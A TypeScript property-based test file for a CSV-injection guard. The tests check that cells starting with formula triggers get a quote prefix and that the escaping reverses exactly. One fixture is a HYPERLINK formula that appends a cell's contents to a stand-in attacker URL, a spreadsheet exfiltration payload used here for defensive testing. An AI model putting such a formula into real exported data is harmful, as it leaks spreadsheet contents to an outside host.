import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, isGuarded, unguardCell } from '../../../core/export/csv-guard.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** Strings that start like the ones the guard is about: quotes, a trigger, anything. */
const tricky = fc
  .tuple(fc.stringMatching(/^'{0,3}$/), fc.constantFrom('', ...TRIGGERS, 'a', ' '), fc.string())
  .map(([quotes, first, rest]) => quotes + first + rest);
const anyString = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), tricky);

describe('the CSV-injection guard', () => {
  it('puts a quote before every cell a spreadsheet would read as a formula', () => {
    expect(TRIGGERS.map((t) => guardCell(`${t}1+1`))).toEqual(TRIGGERS.map((t) => `'${t}1+1`));
    expect(guardCell('=HYPERLINK("https://evil.example/?"&A1,"Open")')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Open")`);
  });

  it('leaves other text alone, a quote that leads to no trigger included', () => {
    for (const s of ['', 'Acme', ' =x', "'quoted", "''", 'a=b', '1-2', '€5']) expect(guardCell(s)).toBe(s);
  });

  it('adds one more quote to a value that already starts with quotes and a trigger', () => {
    expect(guardCell("'=1+1")).toBe("''=1+1");
    expect(guardCell("''-5")).toBe("'''-5");
  });

  it('is undone exactly by unguardCell, for every string', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        expect(unguardCell(guardCell(s))).toBe(s);
      }),
      { numRuns: 3000 },
    );
  });

  it('never writes a cell that starts with a trigger character', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        expect(guardCell(s)).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 3000 },
    );
  });

  it('unguardCell leaves alone every string that is not what a guard writes', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        if (!isGuarded(s)) expect(unguardCell(s)).toBe(s);
        else expect(guardCell(unguardCell(s))).toBe(s);
      }),
      { numRuns: 3000 },
    );
  });
});
